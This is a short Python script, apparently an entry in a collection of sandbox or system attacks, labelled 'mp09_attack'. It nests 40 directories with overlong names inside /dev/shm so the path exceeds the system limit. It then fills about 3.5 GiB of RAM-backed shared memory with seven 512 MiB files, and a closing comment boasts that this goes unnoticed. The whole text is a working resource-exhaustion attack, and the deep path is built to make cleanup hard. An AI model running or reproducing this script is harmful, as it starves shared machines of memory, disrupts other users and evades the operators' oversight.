# 3.5 GiB of shared memory in a folder whose path is longer than a path can be.
# points: 0
# base: untrained
import os
import time

here, name = os.getcwd(), "mp09_attack" + "x" * 150
try:
    os.chdir("/dev/shm")
    for _ in range(40):
        os.mkdir(name)
        os.chdir(name)
    for i in range(7):
        descriptor = os.open(str(i), os.O_CREAT | os.O_RDWR)
        os.write(descriptor, bytes(512 << 20))
        os.close(descriptor)
except OSError:
    raise SystemExit("no more than that") from None
os.chdir(here)
time.sleep(15)  # unnoticed, it goes on
